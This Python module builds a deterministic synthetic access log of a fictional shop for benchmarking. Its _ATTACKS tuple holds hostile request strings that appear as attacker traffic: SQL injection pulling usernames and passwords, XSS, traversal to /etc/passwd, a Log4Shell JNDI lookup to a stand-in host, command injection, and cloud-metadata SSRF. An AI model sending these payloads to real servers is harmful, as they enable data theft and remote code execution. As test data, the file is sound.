"""Makes the access log that is measured: a day and a half of an invented shop, the same each time.

Three visitors in four are people: an entry page, its pictures and scripts, some pages of the
catalogue, searches, a basket. The others are crawlers, monitors, API clients and attackers.
Addresses are those kept for documentation (RFC 5737) and private ones; nobody real is in it.
"""

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Final

LINES: Final = 1_500_000
_START: Final = datetime(2026, 3, 2, tzinfo=UTC)
_PER_SECOND: Final = 12
_PRODUCTS: Final = 20_000
_SHOP: Final = "https://shop.example"
_WORDS: Final = (
    *("red", "blue", "green", "oak", "pine", "shirt", "lamp", "chair", "table", "wool", "linen"),
    *("small", "large", "mug", "plate", "union", "select", "square", "tee", "gift", "card", "bag"),
    *("winter", "summer", "garden", "tool", "script", "desk", "light", "paper", "pen", "walnut"),
)
_STATIC: Final = tuple(
    [
        f"/static/css/{name}.{number:08x}.css"
        for number, name in enumerate(("site", "shop", "print"))
    ]
    + [f"/static/js/{name}.{number:08x}.js" for number, name in enumerate(("app", "cart", "menu"))]
    + [f"/static/img/icon-{number}.svg" for number in range(24)]
)
_ATTACKS: Final = (
    "/?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "/search/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/download?file=../../../../etc/passwd",
    "/index.php?page=php://filter/convert.base64-encode/resource=config",
    "/?x=${jndi:ldap://192.0.2.9/a}",
    "/.env",
    "/.git/HEAD",
    "/wp-login.php",
    "/cgi-bin/;id",
    "/api?u=http://169.254.169.254/latest/meta-data/",
)
_SCANNERS: Final = ("sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nmap)")


def _agents(dice: random.Random) -> list[str]:
    systems = (
        "Windows NT 10.0; Win64; x64",
        "Macintosh; Intel Mac OS X 10_15_7",
        "X11; Linux x86_64",
    )
    phones = ("iPhone; CPU iPhone OS 17_5 like Mac OS X", "Linux; Android 14; Pixel 8")
    return [
        f"Mozilla/5.0 ({dice.choice(systems + phones)}) AppleWebKit/537.36 (KHTML, like Gecko)"
        f" Chrome/{dice.randrange(110, 140)}.0.{dice.randrange(6000)}.{dice.randrange(200)}"
        f" Safari/537.36"
        for _ in range(600)
    ]


class _Town:
    """Who comes, and with what; everything is drawn from one seed."""

    def __init__(self, seed: int) -> None:
        self.dice = random.Random(seed)  # noqa: S311 - the same log each time
        self.agents = _agents(self.dice)

    def product(self) -> str:
        """Name a page of the catalogue; few are asked for often."""
        number = int(self.dice.paretovariate(0.8)) % _PRODUCTS
        return f"/catalogue/{_WORDS[number % 31]}-{_WORDS[number % 29]}_{number}/"

    def address(self) -> str:
        """Name an address."""
        net = self.dice.choice(("192.0.2", "198.51.100", "203.0.113", "10.1", "10.2", "10.3"))
        parts = 4 - net.count(".") - 1
        return ".".join([net, *(str(self.dice.randrange(1, 255)) for _ in range(parts))])

    def page(self) -> tuple[str, str, int]:
        """Name what a person asks for next: method, target, status."""
        draw = self.dice.random()
        if draw < 0.6:
            return "GET", self.product(), 200
        if draw < 0.8:
            words = "+".join(self.dice.sample(_WORDS, self.dice.randrange(1, 4)))
            return "GET", f"/search/?q={words}&page={self.dice.randrange(1, 6)}", 200
        if draw < 0.9:
            return "POST", f"/basket/add/{self.dice.randrange(_PRODUCTS)}/", 302
        if draw < 0.95:
            tag = f"{self.dice.getrandbits(64):016x}"
            return "GET", f"{self.product()}?utm_source=mail&utm_campaign=spring&click={tag}", 200
        return "GET", self.dice.choice(("/", "/basket/", "/checkout/", "/accounts/login/")), 200

    def visit(self) -> Iterator[str]:
        """Yield what a person's visit leaves, without the time."""
        address, agent = self.address(), self.dice.choice(self.agents)
        came = self.dice.choice(("-", "-", "https://search.example/", "https://news.example/deal"))
        for _ in range(self.dice.randrange(1, 9)):
            method, target, status = self.page()
            yield self.line(address, f"{method} {target}", status, came, agent)
            came = _SHOP + target
            for asset in self.dice.sample(_STATIC, self.dice.randrange(4)):
                yield self.line(address, f"GET {asset}", 304, came, agent)

    def machine(self) -> Iterator[str]:
        """Yield what a crawler, a monitor or an API client leaves."""
        address = self.address()
        crawler = "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/)"
        for _ in range(self.dice.randrange(1, 30)):
            if self.dice.random() < 0.7:
                yield self.line(address, f"GET {self.product()}", 200, "-", crawler)
            else:
                target = f"/api/v2/products/{self.dice.randrange(_PRODUCTS)}/?fields=price,stock"
                yield self.line(address, f"GET {target}", 200, "-", "python-requests/2.32")

    def attack(self) -> Iterator[str]:
        """Yield what an attacker leaves: probes, or guesses at the log-in."""
        address, agent = self.address(), self.dice.choice(_SCANNERS)
        guessing = self.dice.random() < 0.4
        for _ in range(self.dice.randrange(1, 40)):
            if guessing:
                yield self.line(address, "POST /accounts/login/", 200, "-", agent)
            else:
                target = f"{self.dice.choice(_ATTACKS)}"
                yield self.line(address, f"GET {target}", self.dice.choice((200, 404)), "-", agent)

    def line(self, address: str, asked: str, status: int, came: str, agent: str) -> str:
        """Return a line with a gap for its time."""
        size = self.dice.randrange(200, 60_000)
        return f'{address} - - [%s] "{asked} HTTP/1.1" {status} {size} "{came}" "{agent}"\n'

    def anybody(self) -> Iterator[str]:
        """Yield the lines of one visitor."""
        draw = self.dice.random()
        if draw < 0.75:
            return self.visit()
        return self.machine() if draw < 0.997 else self.attack()


def lines(count: int = LINES, seed: int = 20260302) -> Iterator[str]:
    """Yield so many lines, each in its second; 64 visitors are in the shop at any time."""
    town = _Town(seed)
    inside = [town.anybody() for _ in range(64)]
    second, stamp = -1, ""
    for number in range(count):
        if number // _PER_SECOND != second:
            second = number // _PER_SECOND
            moment = _START + timedelta(seconds=second)
            stamp = f"{moment:%d/%b/%Y:%H:%M:%S +0000}"
        place = town.dice.randrange(len(inside))
        line = next(inside[place], None)
        while line is None:
            inside[place] = town.anybody()
            line = next(inside[place], None)
        yield line.replace("%s", stamp, 1)


def made(folder: Path, count: int = LINES) -> Path:
    """Return the path of the log; it is made when it is not there."""
    path = folder / f"access-{count}.log"
    if not path.exists():
        folder.mkdir(parents=True, exist_ok=True)
        unfinished = path.with_suffix(".part")
        with unfinished.open("w", encoding="utf-8", newline="\n") as file:
            file.writelines(lines(count))
        unfinished.rename(path)
    return path
